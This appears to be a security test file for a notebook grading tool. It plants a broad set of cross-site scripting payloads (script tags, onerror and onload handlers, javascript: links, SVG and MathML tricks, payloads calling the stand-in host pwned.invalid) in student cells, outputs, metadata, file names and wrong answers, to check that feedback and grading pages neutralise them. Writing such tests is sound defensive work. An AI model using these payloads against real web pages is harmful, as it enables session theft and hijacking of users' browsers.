"""Scripts and markup for the browser of whoever opens the feedback or grades by hand: each tries to call `pwned()`.

The answers are right, unless the text of a wrong one is the way in.
"""

from . import ATTACKED, Attacks

ATTACKS = Attacks()

MARKUP = """<script>pwned()</script><ScRiPt >pwned()</sCrIpT ><script src="http://pwned.invalid/x.js"></script>
<img src=x onerror=pwned()><img/src='x'/onerror='pwned()'><svg onload=pwned()></svg><svg><script>pwned()</script></svg>
<svg><animate onbegin=pwned() attributeName=x dur=1s></svg><math href="javascript:pwned()">x</math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;"></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=pwned()>"></noscript><style>@import "http://pwned.invalid/x.css";</style>
<iframe srcdoc="<script>parent.pwned()</script>"></iframe><iframe src="javascript:parent.pwned()"></iframe>
<object data="data:text/html,<script>parent.pwned()</script>"></object><embed src="javascript:pwned()">
<a href="javascript:pwned()">results</a><a href="jav&#x09;ascript:pwned()">results</a><a href=" javascript:pwned()">results</a>
<a href="data:text/html,<script>pwned()</script>">results</a><form action="http://pwned.invalid"><button formaction="javascript:pwned()">
</button><input autofocus onfocus=pwned()></form><meta http-equiv="refresh" content="0;url=http://pwned.invalid"><base href="http://pwned.invalid/">
<details open ontoggle=pwned()><summary>x</summary></details><video><source onerror=pwned()></video><body onload=pwned()>
<link rel="stylesheet" href="http://pwned.invalid/x.css"><marquee onstart=pwned()>x</marquee><template><img src=x onerror=pwned()></template>
<div style="position:fixed;inset:0;background:url(http://pwned.invalid/x.png)">pwned</div><textarea></textarea><img src=x onerror=pwned()>
</textarea></title></pre></div></div></script></style>--><img src=x onerror=pwned()>"><img src=x onerror=pwned()>'><img src=x onerror=pwned()>
"""
TEXT = f"MARKUP = {MARKUP!r}\nfrom IPython.display import *\n"


CELLS = {}


def cell(name: str, source: str) -> None:
    """One of the cells that show something; they are handed in together."""
    CELLS[name] = source


def wrong(name: str, body: str, told: str = "text_entropy") -> None:
    ATTACKS.answer(f"Page: {name}", TEXT + "def text_entropy(text):\n" + "".join(f"    {line}\n" for line in body.splitlines()),
                   told=told)


# What the student's cells show
cell("HTML", "display(HTML(MARKUP)), display({'text/html': MARKUP, 'text/plain': MARKUP}, raw=True)")
cell("HTML in pieces", "for piece in MARKUP.splitlines(): display(HTML(piece))")
cell("SVG", "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"pwned()\"><script>pwned()</script><foreignObject>'"
            "'<img xmlns=\"http://www.w3.org/1999/xhtml\" src=\"x\" onerror=\"pwned()\"/></foreignObject></svg>'))")
cell("JavaScript", "display(Javascript('pwned()')), display({'application/javascript': 'pwned()', 'text/javascript': 'pwned()'}, raw=True)")
cell("Markdown and LaTeX", "display(Markdown(MARKUP + '[results](javascript:pwned())')), display(Latex(r'$$\\href{javascript:pwned()}{x}$$' + MARKUP))")
cell("a picture whose data end early", "display({'image/png': '\"><img src=x onerror=pwned()>', 'image/jpeg': '\" onerror=\"pwned()'}, raw=True)")
cell("the metadata of a picture", "display({'image/png': 'iVBORw0KGgo='}, raw=True, metadata={'image/png': {"
                                  "'width': '1\" onerror=\"pwned()', 'height': '\"><script>pwned()</script>', 'alt': MARKUP}, 'alt': MARKUP})")
cell("a widget", "display({'application/vnd.jupyter.widget-view+json': {'model_id': '</script><script>pwned()</script>', 'version_major': 2},"
                 "'application/vnd.jupyter.widget-state+json': {'state': MARKUP}}, raw=True)")
cell("types nobody knows", "display({'text/html; charset=utf-8': MARKUP, '<script>pwned()</script>': MARKUP, 'application/json': MARKUP,"
                           "'application/vnd.vega.v5+json': {}, 'application/pdf': MARKUP, 'text/vnd.mermaid': MARKUP}, raw=True)")
cell("our own report", "display({'application/vnd.xentlib.report+json': {'text': MARKUP, 'exercise': MARKUP, 'verdict': 'right',"
                       "'points': MARKUP, 'max_points': 9, 'part': 'visible', 'misconception': MARKUP},"
                       "'text/html': MARKUP, 'text/plain': '9'}, raw=True)")
cell("printed text", "import sys\nprint(MARKUP), print(MARKUP, file=sys.stderr)\nprint('\\x1b[31m' + MARKUP + '\\x1b]8;;javascript:pwned()\\x1b\\\\x')")
cell("an error's text", "raise ValueError(MARKUP)")
cell("an error's type", "raise type(MARKUP, (Exception,), {'__module__': MARKUP})(MARKUP)")
cell("an error's source", "exec(compile('raise ValueError', MARKUP, 'exec'))")
cell("a result's repr", "class Evil:\n    __repr__ = lambda self: MARKUP\n    _repr_html_ = _repr_svg_ = _repr_javascript_ = __repr__\nEvil()")
cell("a title of a picture", "import matplotlib.pyplot as plt\nplt.figure(label=MARKUP)\nplt.title('<script>pwned()</script>')\nplots.show = None\nplt.show()")
cell("the text of the cell", "# " + MARKUP.replace("\n", "\n# "))
cell("help", "def evil(): pass\nevil.__doc__ = MARKUP\nget_ipython().show_usage()\nevil?")
cell("the text of a cell that is no Python", "%%html\n<script>pwned()</script><img src=x onerror=pwned()>")
cell("a cell for JavaScript", "%%javascript\npwned()")



@ATTACKS.submission("Page: what cells show")
def _(submission):
    for name, source in CELLS.items():
        text = source if source.startswith("%%") else TEXT + source
        submission.scratch(text)["id"] = name.lower().replace(" ", "-").replace("'", "")


# What the report on a wrong answer repeats
wrong("the value of a wrong answer", "return MARKUP[:50]")
wrong("a key of a wrong answer", "return {MARKUP[:30]: 1}")
wrong("the type of a wrong answer", "return type('<img src=x onerror=pwned()>', (), {})()")
wrong("the error of a wrong answer", "raise type('<img src=x onerror=pwned()>', (Exception,), {})(MARKUP)")
wrong("the warning of a wrong answer", "import warnings\nwarnings.warn(MARKUP)\nreturn 0.0")
wrong("what a wrong answer prints", "print(MARKUP)\nreturn 0.0")
ATTACKS.answer("Page: the answer is a value with markup", "text_entropy = '<img src=x onerror=pwned()>'", told="text_entropy")
ATTACKS.answer("Page: the answer is a class with markup",
               "text_entropy = type('<img src=x onerror=pwned()>', (), {'__call__': lambda *all: 0})()", told="text_entropy")


# What stands in the notebook itself
@ATTACKS.submission("Page: the written answer")
def _(submission):
    submission.cell("written-answer").source = (MARKUP + "[results](javascript:pwned()) ![x](javascript:pwned()) "
                                                "<javascript:pwned()> [r](java&#115;cript:pwned()) [r](javascript&colon;pwned()) "
                                                "[r](JaVaScRiPt:pwned()) [r](\x01javascript:pwned()) [r](java&Tab;script:pwned()) "
                                                "[r](data&#58;text/html,<script>pwned()</script>) [ref]\n\n[ref]: javascript:pwned()\n\n"
                                                "![x](x \"\\\" onerror=pwned()\")\n\n```html\n</code></pre><script>pwned()</script>\n```\n\n"
                                                "$$\\href{javascript:pwned()}{x}$$ $\\unicode{<img src=x onerror=pwned()>}$ $<script>pwned()</script>$")


@ATTACKS.submission("Page: entities in entities")
def _(submission):
    submission.cell("written-answer").source = "&" + "amp;" * 300_000 + "lt;script>pwned()</script>"


@ATTACKS.submission("Page: attachments of the written answer")
def _(submission):
    cell = submission.cell("written-answer")
    cell.source = "![x](attachment:evil.svg) ![x](attachment:evil.html) ![x](attachment:\"><script>pwned()</script>) ![y](attachment:ok.png)"
    cell["attachments"] = {
        "evil.svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9InB3bmVkKCkiPjwvc3ZnPg=="}, "evil.html": {"text/html": MARKUP},
        "\"><script>pwned()</script>": {"\" onerror=\"pwned()": "\"><script>pwned()</script>"},
        "ok.png": {"image/png": "\"><img src=x onerror=pwned()>"}}


@ATTACKS.submission("Page: text and raw cells of the student")
def _(submission):
    for kind in ("raw", "markdown"):
        for format_ in ("text/html", "text/markdown", "", None):
            submission.book.cells.insert(3, {"cell_type": kind, "id": f"{kind}-{format_}".replace("/", "-").strip("-"), "source": MARKUP,
                                             "metadata": {"format": format_, "raw_mimetype": format_}})


@ATTACKS.submission("Page: the text of an answer")
def _(submission):
    submission.answer(submission.cell("text_entropy").source + f"\n    {MARKUP!r}\n\n" + "# " + MARKUP.replace("\n", "\n# "))


@ATTACKS.submission("Page: metadata")
def _(submission):
    evil = "\"><script>pwned()</script><img src=x onerror=pwned()>"
    submission.book["metadata"] = {
        "kernelspec": {"name": "python3", "display_name": evil, "language": evil}, "title": evil, "authors": [{"name": evil}],
        "language_info": {"name": evil, "pygments_lexer": evil, "codemirror_mode": evil, "version": evil},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"x": {"model_name": "</script><script>pwned()</script>"}}}}}
    for cell in submission.book.cells:
        cell["metadata"].update(tags=[evil, "remove_input"], name=evil, slideshow={"slide_type": evil}, jupyter={"source_hidden": evil})


@ATTACKS.submission("Page: ids of cells")
def _(submission):
    for number, cell in enumerate(submission.book.cells):
        cell["id"] = f"\"><img src=x onerror=pwned()>{number}"


@ATTACKS.submission("Page: names of files")
def _(submission):
    for name in ("<img src=x onerror=pwned()>.txt", "\"><img src=x onerror=pwned()>.html", "'; pwned(); '.js", "index.html"):
        (submission.folder / name).write_text(MARKUP)


@ATTACKS.submission("Page: outputs stored in the notebook", loses=[ATTACKED], told="text_entropy")
def _(submission):
    submission.answer("def text_entropy(text):\n    return 0.0")
    for cell in submission.book.cells:
        if cell["cell_type"] == "code":
            cell["outputs"] = [{"output_type": "display_data", "metadata": {}, "data": {"text/html": MARKUP}},
                               {"output_type": "error", "ename": MARKUP, "evalue": MARKUP, "traceback": [MARKUP]}]
